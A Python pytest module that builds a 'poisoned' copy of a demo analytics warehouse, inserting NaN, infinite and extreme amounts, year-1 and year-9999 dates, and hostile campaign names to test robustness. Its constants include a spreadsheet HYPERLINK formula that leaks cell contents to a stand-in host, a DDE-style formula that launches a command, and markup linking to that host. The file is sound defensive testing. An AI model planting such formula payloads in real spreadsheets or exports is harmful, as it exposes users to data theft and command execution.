"""A warehouse where hostile values got in by hand (SQL, not an import): issue 13.

Copied from the small demo, then: won deals with amounts NaN, +inf, -inf and 1e30 and one closing
in 9999; cost lines of NaN, inf and 1e30; a campaign with a NaN budget; touches dated in year 1
and 9999; campaign names that are spreadsheet formulas and Rich markup. The derived tables are
rebuilt (``refresh``), as a user who edits by hand would.
"""

from __future__ import annotations

import shutil

import pytest

from analytics.loads import finish_load
from analytics.warehouse.connection import connect

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD_NAME = "=cmd|' /C calc'!A0"
MARKUP_NAME = "[/b] [link=http://evil.example]x[/link] [bold red]"
HOSTILE_AMOUNTS = ("'nan'", "'inf'", "'-inf'", "1e30")


def poison(con) -> None:
    """Insert the hostile rows described in the module docstring."""
    deal = con.execute(
        "select opportunity_id from opportunities where is_closed_won order by close_date desc limit 1"
    ).fetchone()[0]
    for number, value in enumerate(HOSTILE_AMOUNTS):
        con.execute(
            f"""insert into opportunities
                select opportunity_id || '-hostile{number}', contact_id, account_id, name, cast({value} as double),
                       stage, is_closed, is_closed_won, created_at, close_date, owner_id, null, null, updated_at, extra
                from opportunities where opportunity_id = ?""",
            [deal],
        )
    con.execute(
        """insert into opportunities
            select opportunity_id || '-year9999', contact_id, account_id, name, amount, stage, is_closed,
                   is_closed_won, created_at, date '9999-12-31', owner_id, null, null, updated_at, extra
            from opportunities where opportunity_id = ?""",
        [deal],
    )
    cost = con.execute(
        "select cost_date, campaign_id from campaign_costs where campaign_id is not null limit 1"
    ).fetchone()
    for value in HOSTILE_AMOUNTS:
        con.execute(
            f"insert into campaign_costs (campaign_id, cost_date, category, amount) "
            f"values (?, ?, 'media_spend', cast({value} as double))",
            list(cost[::-1]),
        )
    con.execute(
        "insert into campaign_costs (campaign_id, cost_date, category, amount) values (null, ?, 'operational_overhead', 'nan')",
        [cost[0]],
    )
    con.execute(
        "insert into campaigns (campaign_id, name, channel, budget) values ('cmp-hostile', ?, 'email', 'nan')",
        [CMD_NAME],
    )
    touch = con.execute("select contact_id, campaign_id, channel from touchpoints limit 1").fetchone()
    for ts in ("0001-01-01 00:00:00", "9999-12-31 23:00:00"):
        con.execute(
            "insert into touchpoints (touchpoint_id, contact_id, campaign_id, channel, touchpoint_type, ts) "
            "values (?, ?, ?, ?, 'visit', cast(? as timestamp))",
            [f"tp-hostile-{ts[:4]}", *touch, ts],
        )
    first, second = [row[0] for row in con.execute("select campaign_id from campaigns order by 1 limit 2").fetchall()]
    con.execute("update campaigns set name = ? where campaign_id = ?", [FORMULA_NAME, first])
    con.execute("update campaigns set name = ? where campaign_id = ?", [MARKUP_NAME, second])


@pytest.fixture(scope="session")
def hostile_db(demo_db, tmp_path_factory) -> str:
    """Path of the poisoned copy of the demo warehouse (read-only for tests)."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    shutil.copy(demo_db, path)
    con = connect(path)
    try:
        con.execute("begin")
        poison(con)
        finish_load(con, "refresh")
        con.execute("commit")
    finally:
        con.close()
    return str(path)
